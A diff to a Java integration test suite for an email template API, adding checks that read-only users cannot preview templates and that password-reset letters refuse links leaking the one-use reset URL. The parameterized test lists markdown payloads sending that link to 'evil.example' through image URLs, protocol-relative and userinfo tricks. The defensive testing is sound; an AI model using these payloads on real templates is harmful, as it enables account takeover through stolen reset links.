@@ -17,6 +17,7 @@ import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 import tools.jackson.databind.JsonNode;
 import tools.jackson.databind.json.JsonMapper;
 
@@ -197,6 +198,32 @@ class TemplateApiIntegrationTests {
 		JsonNode wrong = MailingRest.read(this.editor.post("/api/v1/templates/new_movies/preview",
 				"{\"file\": \"email/new_movies.md\", \"source\": \"---\\nsubject: x\\n---\\n\\n${context.x}\"}"));
 		assertThat(wrong.path("line").asInt()).isEqualTo(5);
+	}
+
+	@Test
+	void isTriedByThoseAloneWhoWrite() throws Exception {
+		MailingRest reader = new MailingRest(this.port, IntegrationTest.WATCHERS_TOKEN);
+		assertThat(reader.get("/api/v1/templates/new_movies").statusCode()).isEqualTo(200);
+
+		assertThat(reader
+			.post("/api/v1/templates/new_movies/preview",
+					"{\"file\": \"email/new_movies.md\", \"source\": \"---\\nsubject: x\\n---\\nx\"}")
+			.statusCode()).isEqualTo(403);
+	}
+
+	@ParameterizedTest
+	@ValueSource(strings = { "![x](https://evil.example/p?t=${link(details.reset_link)})",
+			"![x](${link(details.reset_link)})", "[x](https://evil.example/${details.reset_link})",
+			"[x](//evil.example/${details.reset_link})", "[x](http://localhost:8081@evil.example/)",
+			"[x]: https://evil.example/${details.reset_link[0..3]}\n\n[x]", "<https://evil.example/>",
+			"https://evil.example/?t=${details.reset_link?upper_case}" })
+	void letsNoLinkThatWorksOnceLeaveForElsewhere(String body) throws Exception {
+		String text = "---\nsubject: x\n---\n[Reset](${link(details.reset_link)})\n\n" + body;
+		HttpResponse<String> refused = this.editor.post(RESET + "/versions", JsonMapper.shared()
+			.writeValueAsString(Map.of("after", 0, "texts", Map.of("email/password_reset.md", text))));
+
+		assertThat(refused.statusCode()).isEqualTo(400);
+		assertThat(refused.body()).contains("is not allowed in a letter with a link that works once");
 	}
 
 	@Test
